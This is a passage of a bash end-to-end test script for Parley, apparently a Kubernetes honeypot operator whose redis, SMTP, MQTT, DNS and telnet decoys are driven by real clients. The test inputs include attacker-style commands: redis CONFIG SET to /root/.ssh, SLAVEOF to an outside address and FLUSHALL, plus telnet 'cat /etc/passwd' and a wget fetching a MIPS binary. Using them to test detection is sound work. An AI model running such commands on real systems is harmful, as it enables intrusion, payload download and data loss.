#!/usr/bin/env bash
# Parley end to end on a real single-node Kubernetes cluster (hack/cluster.sh): the image
# built from this checkout, installed with the Helm chart, the five examples served by
# ExternalConnectors and driven by their real clients, what kubectl shows, a live rules edit,
# pause, resume and deletion, a leader failover during a flood, then a clean uninstall.
#
#   test/e2e/e2e.sh          # everything (make e2e); the cluster goes down at the end
#   test/e2e/e2e.sh demo     # steps 1-5 only (make demo): the cluster keeps running, with the
#                            # examples served, and the commands to try are printed
#
# Steps: 1 cluster up, image built and imported; 2 helm install; 3 examples and connectors
# applied, Running with the engine connected; 4 redis-cli, swaks, mosquitto_pub/sub, dig and
# socat against them, answers and Activities checked; 5 kubectl get activities / xconn /
# describe; 5a no API writes to idle connectors over 30 s; 5b kubectl apply of rules that do not compile and of a connector that cannot work
# refused by the admission webhook, with the field paths; 5c shared memory on a redis-server
# of the node: a client connector waits on startWhen until a server connector's rule sets a
# shared variable; 6 a rules edit applied live; 7 pause, resume, delete with a live conversation;
# 7b two operator replicas, the engine's leader deleted during a flood, every Activity
# counted against what the client sent, and the status counters against the Activities; 8 uninstall, nothing of the release left; 9 cluster down.
#
# Needs root, Go, the Debian packages of hack/cluster.sh (containerd runc
# containernetworking-plugins iptables openssl iproute2) and of the clients (redis-tools swaks
# mosquitto-clients dnsutils socat jq), and redis-server (the shared-memory store). The first run builds the Kubernetes binaries and helm
# from the Go module proxy (cached outside the checkout).
#
# Environment:
#   E2E_KEEP=1          leave the cluster up at the end, even after a failure (to look around)
#   E2E_ARTIFACTS=DIR   where a failure's diagnostics go (default dist/e2e/artifacts)
#   E2E_PARLEY_BIN=F    test this static parley binary instead of building one from the checkout
#   IMAGE=REF           the image reference to build and import (default ghcr.io/parley-dev/parley:dev)
#   E2E_NAMESPACE       namespace of the examples (default parley-e2e)
#   E2E_PORT_REDIS, _SMTP, _MQTT, _DNS (UDP), _TELNET, _PINGER, _FAILOVER: the connectors'
#   ports on the node's loopback (26379 22525 21883 20053 22323 27000 27001); E2E_ENGINE_PORT, E2E_METRICS_PORT,
#   E2E_HEALTH_PORT, E2E_WEBHOOK_PORT: the operator's (19443 18080 18081 19444). Both are on the
#   host network. E2E_PORT_SHARED_REDIS: the redis-server of shared memory (26380);
#   E2E_PORT_KNOCK: the shared-memory server connector (27100).
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
root=$(cd "$here/../.." && pwd)
E2E_T0=$SECONDS
# shellcheck source=test/e2e/lib.sh
. "$here/lib.sh"

MODE=${1:-run}
case $MODE in
run | demo) ;;
*)
  sed -n '/^#   test/s/^#   //p' "${BASH_SOURCE[0]}" >&2
  exit 2
  ;;
esac

GO=${GO:-go}
IMAGE=${IMAGE:-ghcr.io/parley-dev/parley:dev}
NS=${E2E_NAMESPACE:-parley-e2e}
RELEASE=parley
RELEASE_NS=parley-system
ARTIFACTS=${E2E_ARTIFACTS:-$root/dist/e2e/artifacts}
PORT_REDIS=${E2E_PORT_REDIS:-26379}
PORT_SMTP=${E2E_PORT_SMTP:-22525}
PORT_MQTT=${E2E_PORT_MQTT:-21883}
PORT_DNS=${E2E_PORT_DNS:-20053}
PORT_TELNET=${E2E_PORT_TELNET:-22323}
PORT_PINGER=${E2E_PORT_PINGER:-27000}
PORT_FAILOVER=${E2E_PORT_FAILOVER:-27001}
ENGINE_PORT=${E2E_ENGINE_PORT:-19443}
METRICS_PORT=${E2E_METRICS_PORT:-18080}
HEALTH_PORT=${E2E_HEALTH_PORT:-18081}
WEBHOOK_PORT=${E2E_WEBHOOK_PORT:-19444}
PORT_SHARED_REDIS=${E2E_PORT_SHARED_REDIS:-26380}
PORT_KNOCK=${E2E_PORT_KNOCK:-27100}
# The shared-memory store's password, handed to the chart in a Secret of its own.
SHARED_REDIS_PASSWORD=e2e-$RANDOM$RANDOM
SHARED_REDIS_PID=""
# The connectors, each serving one example: name, ConversationRules, example file, port.
CONNECTORS=(redis-decoy smtp-decoy mqtt-decoy dns-decoy telnet-decoy)
declare -A RULES_OF=([redis-decoy]=fake-redis [smtp-decoy]=fake-smtp [mqtt-decoy]=fake-mqtt [dns-decoy]=fake-dns [telnet-decoy]=fake-telnet)
declare -A FILE_OF=([redis-decoy]=redis.yaml [smtp-decoy]=smtp.yaml [mqtt-decoy]=mqtt.yaml [dns-decoy]=dns.yaml [telnet-decoy]=telnet.yaml)
declare -A PORT_OF=([redis-decoy]=$PORT_REDIS [smtp-decoy]=$PORT_SMTP [mqtt-decoy]=$PORT_MQTT [dns-decoy]=$PORT_DNS [telnet-decoy]=$PORT_TELNET)
declare -A TRANSPORT_OF=([redis-decoy]=TCP [smtp-decoy]=TCP [mqtt-decoy]=TCP [dns-decoy]=UDP [telnet-decoy]=TCP)

WORK=$(mktemp -d "${TMPDIR:-/tmp}/parley-e2e.XXXXXX")
KUBECONFIG=""
KUBECTL=""
HELM=""
CLUSTER_LOGS=""
CLUSTER_STARTED=false

on_exit() {
  local status=$?
  set +e
  trap - ERR
  kill_sessions
  stop_shared_redis
  end_step
  if [ "$status" != 0 ]; then
    [ -n "$FAILED" ] || [ -z "$LAST_ERR" ] || log "FAIL${CURRENT_STEP:+ in \"$CURRENT_STEP\"}: command failed: $LAST_ERR"
    diagnostics
  fi
  if $CLUSTER_STARTED; then
    if [ "$MODE" = demo ] && [ "$status" = 0 ]; then
      :
    elif [ "$MODE" = demo ] || [ "${E2E_KEEP:-}" = 1 ]; then
      log "the cluster keeps running; tear it down with: hack/cluster.sh down"
    else
      step "9. cluster down"
      "$root/hack/cluster.sh" down >&2 || log "warning: hack/cluster.sh down failed"
      end_step
    fi
  fi
  print_timings
  if [ "$status" = 0 ]; then
    log "PASSED ($MODE)"
    [ "$MODE" != demo ] || print_demo
  else
    log "FAILED ($MODE, status $status)${ARTIFACTS:+; diagnostics in $ARTIFACTS}"
  fi
  rm -rf "$WORK"
  exit "$status"
}
# The innermost command that failed, for failures that do not go through fail().
LAST_ERR=""
set -E
trap '[ -n "$LAST_ERR" ] || LAST_ERR="line $LINENO: $BASH_COMMAND (status $?)"' ERR
trap on_exit EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# --- preflight --------------------------------------------------------------------------------

preflight() {
  [ "$(id -u)" = 0 ] || fail "must run as root (hack/cluster.sh starts containerd and a kubelet)"
  local missing=() pkgs=() cmd pkg
  for cmd in redis-cli:redis-tools swaks:swaks mosquitto_pub:mosquitto-clients mosquitto_sub:mosquitto-clients \
    dig:dnsutils socat:socat jq:jq ss:iproute2 redis-server:redis-server "$GO":golang; do
    pkg=${cmd#*:}
    cmd=${cmd%%:*}
    if ! command -v "$cmd" >/dev/null; then
      missing+=("$cmd")
      pkgs+=("$pkg")
    fi
  done
  [ ${#missing[@]} = 0 ] || fail "missing ${missing[*]}: apt-get install $(printf '%s\n' "${pkgs[@]}" | sort -u | tr '\n' ' ')"
}

# ports_free <port/proto...> fails naming what holds a port the test is about to use.
ports_free() {
  local p port proto holder
  for p in "$@"; do
    port=${p%/*}
    proto=${p#*/}
    if [ "$proto" = udp ]; then
      holder=$(ss -Hulnp "sport = :$port")
    else
      holder=$(ss -Htlnp "sport = :$port")
    fi
    [ -z "$holder" ] || fail "port $port/$proto is in use on this machine; choose another with the E2E_*PORT* variables (see test/e2e/e2e.sh)" "$holder"
  done
}

# --- cleanup of a previous run on a kept cluster ---------------------------------------------

# uninstall_all removes everything an earlier run (or demo) left on the cluster, whatever state
# it is in: connectors first while the operator still runs (their finalizer ends their
# conversations), then the release, the operator's Secret, the CRDs and the namespaces.
# It is also step 8's procedure, which checks afterwards that nothing is left.
uninstall_all() {
  local operator_up=false
  if [ -n "$(ks get deploy "$RELEASE" --ignore-not-found -o name 2>/dev/null)" ] &&
    [ "$(ks get deploy "$RELEASE" -o jsonpath='{.status.readyReplicas}' 2>/dev/null)" = 1 ]; then
    operator_up=true
  fi
  if k get crd externalconnectors.parley.io >/dev/null 2>&1; then
    if [ -n "$(k get xconn -A -o name 2>/dev/null)" ]; then
      log "deleting ExternalConnectors"
      k delete xconn --all -A --wait=false >/dev/null
      if $operator_up; then
        wait_until 120 "ExternalConnectors to be deleted by the operator" gone xconn -A
      fi
      # Without an operator nothing removes the finalizer.
      local x
      for x in $(k get xconn -A -o jsonpath='{range .items[*]}{.metadata.namespace}/{.metadata.name}{"\n"}{end}' 2>/dev/null); do
        log "removing the finalizer of $x (no operator)"
        k -n "${x%/*}" patch xconn "${x#*/}" --type=merge -p '{"metadata":{"finalizers":null}}' >/dev/null || true
      done
    fi
    k delete crules --all -A --ignore-not-found >/dev/null
  fi
  if helm_ status "$RELEASE" -n "$RELEASE_NS" >/dev/null 2>&1; then
    log "helm uninstall $RELEASE"
    helm_ uninstall "$RELEASE" -n "$RELEASE_NS" --wait --timeout 120s >&2
  fi
  # The operator makes this Secret itself; Helm does not know it (charts/parley/README.md).
  if k get ns "$RELEASE_NS" >/dev/null 2>&1; then
    ks delete secret "$RELEASE-engine-tls" "$RELEASE-webhook-tls" --ignore-not-found >/dev/null
  fi
  # Helm never deletes CRDs; an old CRD would survive into the next install, whose crds/
  # Helm then skips. Delete them as the chart's README says.
  k delete crd activities.parley.io activitysinks.parley.io externalconnectors.parley.io conversationrules.parley.io --ignore-not-found >/dev/null
  k delete ns "$NS" "$RELEASE_NS" --ignore-not-found --wait=false >/dev/null
  wait_until 120 "namespaces $NS and $RELEASE_NS to be deleted" gone ns "$NS" "$RELEASE_NS"
}

# --- step 1: cluster and image -----------------------------------------------------------------

step_cluster() {
  step "1. cluster up, image built and imported"
  preflight
  local t
  t=$SECONDS
  "$root/hack/cluster.sh" up >&2
  CLUSTER_STARTED=true
  log "cluster up in $((SECONDS - t))s"
  KUBECONFIG=$("$root/hack/cluster.sh" kubeconfig)
  export KUBECONFIG
  CLUSTER_LOGS=$(dirname "$KUBECONFIG")/logs
  APISERVER=$("$root/hack/cluster.sh" env | sed -n 's/^export PARLEY_CLUSTER_APISERVER=//p')
  [ -n "$APISERVER" ] || fail "hack/cluster.sh env did not print PARLEY_CLUSTER_APISERVER"
  APISERVER_PORT=${APISERVER##*:}
  KUBECTL=$("$root/hack/envtest-assets.sh")/kubectl
  t=$SECONDS
  HELM=$("$root/hack/envtest-assets.sh" helm)
  log "kubectl $KUBECTL, helm $HELM ($((SECONDS - t))s)"
  k get nodes >&2

  if [ -n "$(k get ns "$NS" "$RELEASE_NS" --ignore-not-found -o name)" ] ||
    k get crd externalconnectors.parley.io >/dev/null 2>&1; then
    log "removing what an earlier run left on the cluster"
    uninstall_all
  fi

  local bin=$WORK/parley
  t=$SECONDS
  if [ -n "${E2E_PARLEY_BIN:-}" ]; then
    log "using E2E_PARLEY_BIN=$E2E_PARLEY_BIN"
    cp "$E2E_PARLEY_BIN" "$bin"
  else
    log "building a static parley from $root"
    (cd "$root" && CGO_ENABLED=0 "$GO" build -trimpath -ldflags "-s -w" -o "$bin" ./cmd/parley)
  fi
  log "parley: $(du -h "$bin" | cut -f1), sha256 $(sha256sum "$bin" | cut -c1-12) ($((SECONDS - t))s)"
  mkdir -p "$root/dist/e2e"
  "$root/hack/image.sh" binary "$bin" --tag "$IMAGE" --path /parley --out "$root/dist/e2e/parley-image.tar" --import >/dev/null
  ok "image $IMAGE imported into the cluster's containerd"
}

# --- the shared-memory store ---------------------------------------------------------------------

# start_shared_redis runs a redis-server on the node's loopback, with a password, as the
# store of shared variables (connectors and the operator are on the host network).
start_shared_redis() {
  ports_free "$PORT_SHARED_REDIS/tcp"
  redis-server --bind 127.0.0.1 --port "$PORT_SHARED_REDIS" --requirepass "$SHARED_REDIS_PASSWORD" \
    --save "" --appendonly no --daemonize no --dir "$WORK" --logfile "$WORK/shared-redis.log" &
  SHARED_REDIS_PID=$!
  wait_until 30 "redis-server on 127.0.0.1:$PORT_SHARED_REDIS" shared_redis_is PONG PING
  ok "redis-server on 127.0.0.1:$PORT_SHARED_REDIS (pid $SHARED_REDIS_PID), with a password"
}

stop_shared_redis() {
  [ -n "$SHARED_REDIS_PID" ] || return 0
  kill "$SHARED_REDIS_PID" 2>/dev/null
  wait "$SHARED_REDIS_PID" 2>/dev/null
  SHARED_REDIS_PID=""
}

# shared_redis <args...> runs redis-cli against the shared-memory store.
shared_redis() {
  timeout 10 redis-cli -h 127.0.0.1 -p "$PORT_SHARED_REDIS" -a "$SHARED_REDIS_PASSWORD" --no-auth-warning "$@"
}

# shared_redis_is <want> <args...>: for wait_until.
shared_redis_is() {
  local want=$1 out
  shift
  out=$(shared_redis "$@" 2>&1) || true
  [ "$out" = "$want" ] || {
    echo "redis-cli $*: '$out', want '$want'"
    return 1
  }
}

# --- step 2: helm install ----------------------------------------------------------------------

step_install() {
  step "2. helm install"
  ports_free "$ENGINE_PORT/tcp" "$METRICS_PORT/tcp" "$HEALTH_PORT/tcp" "$WEBHOOK_PORT/tcp"
  start_shared_redis
  # The store's password goes to the chart as an existing Secret, never as a value.
  k create namespace "$RELEASE_NS" >/dev/null
  ks create secret generic parley-shared-memory --from-literal=password="$SHARED_REDIS_PASSWORD" >/dev/null
  local repo=${IMAGE%:*} tag=${IMAGE##*:}
  [[ $IMAGE != *@* && $tag != */* && -n $tag && $repo != "$IMAGE" ]] || fail "IMAGE must be repository:tag, not $IMAGE"
  # The pod network of hack/cluster.sh reaches nothing, Services get no endpoints and there
  # is no kube-proxy: the operator runs on the host network and reaches the API server on
  # the host's loopback; connector pods (hostNetwork too) dial the engine there, and the API
  # server calls the admission webhook there (webhook.address instead of its Service).
  cat >"$WORK/values.yaml" <<EOF
image:
  repository: $repo
  tag: "$tag"
  pullPolicy: Never
hostNetwork: true
extraEnv:
  - {name: KUBERNETES_SERVICE_HOST, value: "127.0.0.1"}
  - {name: KUBERNETES_SERVICE_PORT, value: "$APISERVER_PORT"}
engine:
  port: $ENGINE_PORT
  address: "127.0.0.1:$ENGINE_PORT"
webhook:
  port: $WEBHOOK_PORT
  address: "127.0.0.1:$WEBHOOK_PORT"
metrics:
  port: $METRICS_PORT
healthPort: $HEALTH_PORT
logFormat: json
sharedMemory:
  url: "redis://127.0.0.1:$PORT_SHARED_REDIS/0"
  existingSecret: parley-shared-memory
EOF
  sed 's/^/    /' "$WORK/values.yaml" >&2
  log "helm install $RELEASE charts/parley -n $RELEASE_NS --create-namespace"
  helm_ install "$RELEASE" "$root/charts/parley" -n "$RELEASE_NS" --create-namespace -f "$WORK/values.yaml" >"$WORK/notes.txt"
  ks rollout status "deploy/$RELEASE" --timeout=180s >&2 || fail "the operator did not become Ready"
  ok "operator Ready: $(ks get pods -l app.kubernetes.io/instance=$RELEASE -o jsonpath='{.items[*].metadata.name}')"
  local args
  args=$(ks get deploy "$RELEASE" -o jsonpath='{.spec.template.spec.containers[0].args}')
  want_contains "operator arguments" "$args" "--engine-address=127.0.0.1:$ENGINE_PORT" "--connector-image=$IMAGE" \
    "--webhook-hosts=127.0.0.1" "--shared-memory-url=redis://127.0.0.1:$PORT_SHARED_REDIS/0" "--shared-memory-password-file="
  [[ $(ks get deploy "$RELEASE" -o json) != *"$SHARED_REDIS_PASSWORD"* ]] || fail "the operator's Deployment holds the shared-memory password"
  ok "the operator reads the shared-memory password from the Secret parley-shared-memory, mounted"
}

# --- step 3: the examples ------------------------------------------------------------------------

# connector_yaml <name> <rules> <port>: an ExternalConnector on the host network, bound to the
# node's loopback only (nothing else on the machine should reach the decoys).
connector_yaml() {
  cat <<EOF
---
apiVersion: parley.io/v1alpha1
kind: ExternalConnector
metadata:
  name: $1
spec:
  rules: $2
  port: $3
  ip: 127.0.0.1
  pod:
    hostNetwork: true
  activities: {record: All, maxCount: 1000, ttl: 24h}
EOF
}

# wait_running <connector>: phase Running and a connector pod holding the engine stream.
wait_running() {
  wait_until 180 "$1 to be Running with its pod connected to the engine" connector_up "$1"
}

# connector_up <connector>; when not, says why: conditions, pods, their last log lines.
connector_up() {
  phase_is "$1" Running >/dev/null && condition_is "$1" EngineConnected True >/dev/null && return 0
  echo "ExternalConnector $1: phase '$(jsonpath "xconn/$1" '{.status.phase}')'"
  kn get "xconn/$1" -o jsonpath='{range .status.conditions[*]}  {.type}={.status} {.reason}: {.message}{"\n"}{end}'
  kn get pods -l "parley.io/connector=$1" -o jsonpath='{range .items[*]}pod {.metadata.name}: {.status.phase}, restarts {.status.containerStatuses[0].restartCount} {.status.containerStatuses[0].state.waiting.reason}{"\n"}{end}'
  local pod
  for pod in $(kn get pods -l "parley.io/connector=$1" -o name); do
    kn logs "$pod" --tail=3 2>/dev/null | sed "s|^|  ${pod#pod/}: |"
    kn logs "$pod" --previous --tail=3 2>/dev/null | sed "s|^|  ${pod#pod/} (previous): |"
  done
  return 1
}

step_examples() {
  step "3. examples as ConversationRules and ExternalConnectors"
  local c ports=()
  for c in "${CONNECTORS[@]}"; do
    ports+=("${PORT_OF[$c]}/${TRANSPORT_OF[$c],,}")
  done
  ports_free "${ports[@]}"
  k create namespace "$NS" >/dev/null
  for c in "${CONNECTORS[@]}"; do
    kn apply -f "$root/examples/${FILE_OF[$c]}" >&2
  done
  for c in "${CONNECTORS[@]}"; do
    connector_yaml "$c" "${RULES_OF[$c]}" "${PORT_OF[$c]}"
  done >"$WORK/connectors.yaml"
  kn apply -f "$WORK/connectors.yaml" >&2
  for c in "${CONNECTORS[@]}"; do
    wait_until 60 "ConversationRules ${RULES_OF[$c]} to be Valid" \
      field_is "crules/${RULES_OF[$c]}" '{.status.conditions[?(@.type=="Valid")].status}' True
  done
  for c in "${CONNECTORS[@]}"; do
    wait_running "$c"
    ok "$c Running on 127.0.0.1:${PORT_OF[$c]}/${TRANSPORT_OF[$c]}, engine connected"
    kn wait --for=condition=Ready "xconn/$c" --timeout=120s >&2 || fail "kubectl wait --for=condition=Ready xconn/$c"
    ok "kubectl wait --for=condition=Ready xconn/$c"
  done
  kn get crules,xconn >&2
}

# --- step 4: real clients -------------------------------------------------------------------------

# wait_acts <connector> <what> <jq filter> [jq args]: the connector's Activities reach the
# cluster through the engine's rate-limited writer, so checks on them wait.
wait_acts() {
  local c=$1 what=$2 filter=$3
  shift 3
  wait_until 60 "$c: $what" acts_check "$c" "$JQ_DEFS $filter" "$@"
  ok "$c: $what"
}

test_redis() {
  local c=redis-decoy p=$PORT_REDIS out
  log "redis-cli against $c"
  out=$(client redis-cli -h 127.0.0.1 -p "$p" PING)
  want_equal "redis-cli PING" "$out" PONG
  out=$(client redis-cli -h 127.0.0.1 -p "$p" -a hunter2 --no-auth-warning PING)
  want_equal "redis-cli AUTH, PING" "$out" PONG
  out=$(client_stdin $'SET greeting hello\nGET greeting\nGET unknown' redis-cli --no-raw -h 127.0.0.1 -p "$p")
  want_equal "redis-cli session" "$(squash "$out")" 'OK "hello" (nil)'
  out=$(client redis-cli -h 127.0.0.1 -p "$p" INFO)
  want_contains "redis-cli INFO" "$out" "# Server" "redis_version:7.2.4" "uptime_in_days:41"
  out=$(client_stdin $'CONFIG SET dir /root/.ssh\nSLAVEOF 203.0.113.7 21000\nFLUSHALL' redis-cli --no-raw -h 127.0.0.1 -p "$p")
  want_equal "redis-cli CONFIG SET, SLAVEOF, FLUSHALL" "$out" $'OK\nOK\n(error) ERR unknown command'
  ok "redis-cli answers"
  wait_acts $c "every conversation ended" 'all_ended and ([.[] | select(.type == "Connected")] | length) >= 5'
  wait_acts $c "AUTH password captured, an alert (rule 2)" 'captured("password") == ["hunter2"] and alerted(2)'
  wait_acts $c "SET/GET captured, GET answered from memory (async 20) and nil (21)" \
    'captured("key") == ["greeting"] and captured("getkey") == ["greeting", "unknown"] and asyncs == [20, 21]'
  wait_acts $c "CONFIG SET and SLAVEOF captured, alerts (rules 8, 10)" \
    'captured("config_value") == ["/root/.ssh"] and captured("master") == ["203.0.113.7"] and alerted(8) and alerted(10)'
}

test_smtp() {
  local c=smtp-decoy out
  log "swaks against $c"
  out=$(client swaks --server "127.0.0.1:$PORT_SMTP" --helo client.example \
    --from c@d.example --to a@b.example,x@y.example \
    --auth LOGIN --auth-user postmaster --auth-password 'Winter2024!' \
    --header "Subject: quarterly report" --timeout 30)
  want_contains "swaks" "$out" "220 mail.example.com ESMTP" "250-AUTH PLAIN LOGIN" \
    "235 2.7.0 Authentication successful" "354 End data" "250 2.0.0 Ok: queued as " "221 2.0.0 Bye"
  ok "swaks: authenticated, message queued"
  wait_acts $c "conversation ended by QUIT (ending rule 23)" 'all_ended and ended("ending rule 23")'
  wait_acts $c "AUTH LOGIN decoded and an alert (rule 32), envelope and subject captured" \
    'alerted(32) and captured("helo") == ["client.example"] and captured("rcpt_to") == ["a@b.example", "x@y.example"]
     and captured("subject") == ["quarterly report"]
     and ([.[] | .memory.connection.user // empty] | last) == "postmaster"
     and ([.[] | .memory.connection.password // empty] | last) == "Winter2024!"'
}

test_mqtt() {
  local c=mqtt-decoy p=$PORT_MQTT out
  log "mosquitto_pub and mosquitto_sub against $c"
  out=$(client mosquitto_pub -d -h 127.0.0.1 -p "$p" -i parley-e2e -u admin -P 's3cret!' -q 1 \
    -t home/livingroom/temperature -m 21.5)
  want_contains "mosquitto_pub -q 1" "$out" "received CONNACK (0)" "received PUBACK (Mid: 1"
  out=$(client mosquitto_sub -d -E -h 127.0.0.1 -p "$p" -t 'sensors/#')
  want_contains "mosquitto_sub" "$out" "received SUBACK" "Subscribed (mid: 1): 0"
  ok "mosquitto_pub got its PUBACK, mosquitto_sub its SUBACK"
  wait_acts $c "both conversations ended (DISCONNECT, ending rule 10)" 'all_ended and ended("ending rule 10")'
  wait_acts $c "credentials and topics captured, the login an alert (rule 2), PUBACK (rule 40)" \
    '(captured("client_id") | index(["parley-e2e"])) != null
     and captured("username") == ["admin"] and captured("password") == ["s3cret!"]
     and captured("topic") == ["home/livingroom/temperature"] and captured("filter") == ["sensors/#"]
     and alerted(2) and (executed | index([40])) != null'
}

test_dns() {
  local c=dns-decoy p=$PORT_DNS out
  log "dig against $c (UDP)"
  out=$(client dig @127.0.0.1 -p "$p" +tries=2 +time=5 decoy.example A)
  want_contains "dig A" "$out" "status: NOERROR" "QUERY: 1, ANSWER: 1, AUTHORITY: 0, ADDITIONAL: 0"
  grep -Eq '^decoy\.example\.\s+300\s+IN\s+A\s+192\.0\.2\.1$' <<<"$out" || fail "dig A: no A record 192.0.2.1" "$out"
  out=$(client dig @127.0.0.1 -p "$p" +tries=2 +time=5 decoy.example AAAA)
  want_contains "dig AAAA" "$out" "status: NOERROR" "ANSWER: 0"
  out=$(client dig @127.0.0.1 -p "$p" +tries=2 +time=5 version.bind TXT CH +short)
  want_equal "dig version.bind" "$out" '"9.18.28-1~deb12u2-Debian"'
  ok "dig: A 192.0.2.1, AAAA NODATA, version.bind"
  wait_acts $c "queries answered by rules 2, 3 and 1, version.bind an alert" \
    '([.[] | select(.type == "Input") | .rules.executed] | index([[2]]) != null and index([[3]]) != null)
     and alerted(1) and (captured("question") | index(["\u0005decoy\u0007example\u0000\u0000\u0001\u0000\u0001"]) != null)'
}

test_telnet() {
  local c=telnet-decoy prompt='admin@router:~$ '
  log "socat against $c (an interactive login)"
  session_start telnet socat - "TCP:127.0.0.1:$PORT_TELNET"
  # socat does not answer the telnet option negotiation: an empty line brings the login prompt
  session_send telnet ""
  session_expect telnet "router login: "
  session_send telnet admin
  session_expect telnet "Password: "
  session_send telnet admin123
  session_expect telnet "Welcome to Ubuntu"
  session_expect telnet "$prompt"
  session_send telnet "uname -a"
  session_expect telnet $'x86_64 GNU/Linux\r\n'"$prompt"
  session_send telnet "cat /etc/passwd"
  session_expect telnet $'admin:x:1000:1000:admin:/home/admin:/bin/bash\r\n'"$prompt"
  session_send telnet "wget http://203.0.113.5/bins/mips -O m"
  session_expect telnet $'wget: unable to resolve host address\r\n'"$prompt"
  session_send telnet "exit"
  session_expect telnet $'logout\r\n'
  session_wait_exit telnet
  ok "socat: logged in, shell answered, exit closed the connection"
  wait_acts $c "conversation ended by exit (ending rule 10)" 'all_ended and ended("ending rule 10")'
  wait_acts $c "login captured and an alert (rule 2), download URL captured and an alert (rule 21)" \
    'captured("user") == ["admin"] and captured("password") == ["admin123"]
     and captured("url") == ["http://203.0.113.5/bins/mips"] and alerted(2) and alerted(21)
     and executed == [1, 2, 11, 20, 21, 10]'
}

step_clients() {
  step "4. real clients against the connectors"
  test_redis
  test_smtp
  test_mqtt
  test_dns
  test_telnet
}

# --- step 5: what kubectl shows -------------------------------------------------------------------

# columns_are <header line> <column...>
columns_are() {
  local got
  got=$(squash "$1")
  shift
  [ "$got" = "$*" ] || fail "columns: got '$got', want '$*'"
}

step_kubectl() {
  step "5. kubectl get activities, get xconn, describe xconn"
  local out line c

  out=$(kn get activities)
  {
    head -n 1 <<<"$out"
    for c in "${CONNECTORS[@]}"; do
      grep -m 1 "^$c-.* Input " <<<"$out" || true
    done
  } | sed 's/^/    /' >&2
  columns_are "$(head -n 1 <<<"$out")" NAME CONNECTOR TYPE ALERT PEER RULES INPUT AGE
  # redis-cli's PING: the RESP bytes, escaped on one line, fired rule 1, from the loopback
  # shellcheck disable=SC2016 # the text kubectl shows, $ included
  line=$(grep -F 'redis-decoy' <<<"$out" | grep -F ' Input ' | grep -F '*1\r\n$4\r\nPING\r\n' | head -n 1) ||
    fail "no redis-decoy Input row showing the escaped PING in kubectl get activities" "$out"
  [[ $line =~ ^redis-decoy-[0-9a-f]{8}-[0-9]{6}\ +redis-decoy\ +Input\ +127\.0\.0\.1:[0-9]+\ +\[1\]\ +\*1\\r\\n\$4\\r\\nPING\\r\\n\ +[0-9]+[smh] ]] ||
    fail "unexpected activity row" "$line"
  ok "kubectl get activities: NAME CONNECTOR TYPE ALERT PEER RULES INPUT AGE, e.g. $(squash "$line")"
  for c in "${CONNECTORS[@]}"; do
    grep -q "^$c-.* $c  *Input " <<<"$out" || fail "no Input activity of $c in kubectl get activities" "$out"
  done
  # the short name and the category
  [ "$(kn get act -o name | wc -l)" -gt 0 ] || fail "kubectl get act lists nothing"
  out=$(kn get parley -o name)
  for c in conversationrules.parley.io/fake-redis externalconnector.parley.io/redis-decoy activity.parley.io/redis-decoy-; do
    grep -qF "$c" <<<"$out" || fail "kubectl get parley does not list $c" "$out"
  done
  ok "kubectl get act and kubectl get parley list them"

  # Status counters come from the engine, debounced: wait until each connector's count
  # covers what its clients did.
  for c in "${CONNECTORS[@]}"; do
    wait_until 60 "$c status counters" counters_positive "$c"
  done
  # A live conversation shows in ACTIVE.
  session_start live socat - "TCP:127.0.0.1:$PORT_TELNET"
  session_send live ""
  session_expect live "router login: "
  wait_until 60 "telnet-decoy ACTIVE 1 with a live conversation" \
    field_is xconn/telnet-decoy '{.status.connections.active}' 1
  out=$(kn get xconn)
  printf '%s\n' "$out" | sed 's/^/    /' >&2
  columns_are "$(head -n 1 <<<"$out")" NAME MODE TRANSPORT PORT RULES READY PHASE ACTIVE ACTIVITIES AGE
  for c in "${CONNECTORS[@]}"; do
    line=$(grep "^$c " <<<"$out") || fail "no row for $c in kubectl get xconn" "$out"
    read -r -a f <<<"$line"
    if ! { [ "${f[1]}" = Server ] && [ "${f[2]}" = "${TRANSPORT_OF[$c]}" ] && [ "${f[3]}" = "${PORT_OF[$c]}" ] &&
      [ "${f[4]}" = "${RULES_OF[$c]}" ] && [ "${f[5]}" = 1/1 ] && [ "${f[6]}" = Running ] && [ "${f[8]}" -gt 0 ]; }; then
      fail "unexpected kubectl get xconn row for $c (want Server ${TRANSPORT_OF[$c]} ${PORT_OF[$c]} ${RULES_OF[$c]} 1/1 Running, ACTIVITIES > 0)" "$line"
    fi
    if [ "$c" = telnet-decoy ]; then
      [ "${f[7]}" = 1 ] || fail "ACTIVE of telnet-decoy is ${f[7]} with one live conversation" "$line"
    fi
  done
  ok "kubectl get xconn: MODE TRANSPORT PORT RULES READY PHASE ACTIVE ACTIVITIES as expected"
  session_send live admin
  session_expect live "Password: "
  session_close live
  session_wait_exit live

  for c in "${CONNECTORS[@]}"; do
    wait_until 60 "Events Started and RuleAlert in kubectl describe xconn $c" describe_has_events "$c" Started RuleAlert
  done
  kn describe xconn redis-decoy | sed -n '/^Events:/,$p' | sed 's/^/    /' >&2
  ok "kubectl describe xconn: Events Started and RuleAlert for every connector"
}

# counters_positive <connector>: connections.total, activities.total and recorded above 0,
# recorded equal to the Activities that exist, none dropped.
counters_positive() {
  local c=$1 st n
  st=$(kn get xconn "$c" -o json | jq -c '.status | {connections, activities}')
  n=$(kn get act -l "parley.io/connector=$c" -o name | wc -l)
  jq -e --argjson n "$n" '.connections.total > 0 and .activities.total > 0 and .activities.recorded == $n and .activities.dropped == 0' <<<"$st" >/dev/null || {
    echo "status of $c: $st; $n Activities exist"
    return 1
  }
}

# describe_has_events <connector> <reason...>
describe_has_events() {
  local c=$1 out r
  shift
  out=$(kn describe xconn "$c" | sed -n '/^Events:/,$p')
  for r in "$@"; do
    grep -Eq "^ +(Normal|Warning) +$r " <<<"$out" || {
      echo "no $r event for $c:"
      echo "$out"
      return 1
    }
  done
}

# --- step 5b: admission ---------------------------------------------------------------------------

# webhook_refuses <file> <text>: a server-side dry run of the file is refused, saying text:
# for wait_until, until the API server calls the webhook with the CA the operator injected
# (failurePolicy Ignore lets everything through before that). kubectl prints a webhook's
# refusal as it prints the schema's ("The <Kind> "<name>" is invalid:" and the causes), so
# text must be something only the webhook says.
webhook_refuses() {
  local out
  if out=$(kn apply --dry-run=server -f "$1" 2>&1); then
    echo "accepted: $out"
    return 1
  fi
  [[ $out == *"$2"* ]] || {
    echo "$out"
    return 1
  }
}

# ca_injected succeeds once the operator has put its CA into the webhook configuration.
ca_injected() {
  local ca
  ca=$(k get validatingwebhookconfiguration parley-validating-webhook -o jsonpath='{.webhooks[0].clientConfig.caBundle}') || return 1
  [ -n "$ca" ] || {
